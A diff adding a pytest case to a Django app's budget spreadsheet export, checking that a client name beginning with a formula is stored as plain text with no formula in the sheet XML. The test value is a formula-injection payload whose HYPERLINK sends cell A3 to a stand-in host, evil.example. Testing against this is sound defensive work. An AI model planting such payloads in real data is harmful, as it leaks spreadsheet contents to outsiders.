@@ -6,6 +6,7 @@ import csv
 import datetime
 import io
 import re
+import zipfile
 from decimal import Decimal
 
 import pytest
@@ -188,3 +189,16 @@ class TestRowsAddUpInCents:
         sheet = load_workbook(io.BytesIO(to_xlsx(b))).active
         xlsx_quarters = [sheet.cell(row=r, column=column + 1).value for r in range(3, 7)]
         assert round(sum(xlsx_quarters), 2) == sheet.cell(row=7, column=column + 1).value
+
+
+@pytest.mark.django_db
+def test_a_client_name_starting_with_a_formula_is_written_to_the_xlsx_as_text(client, bob, acme):
+    acme.name = '=HYPERLINK("http://evil.example/?"&A3,"Acme")'
+    acme.save()
+    client.force_login(bob)
+    data = client.get(reverse("strategy:budget_xlsx", args=["acme"])).getvalue()
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert sheet["A1"].data_type == "s"  # a string cell, shown exactly as typed
+    assert sheet["A1"].value == '=HYPERLINK("http://evil.example/?"&A3,"Acme"): IT budget (USD)'
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")  # no formula anywhere
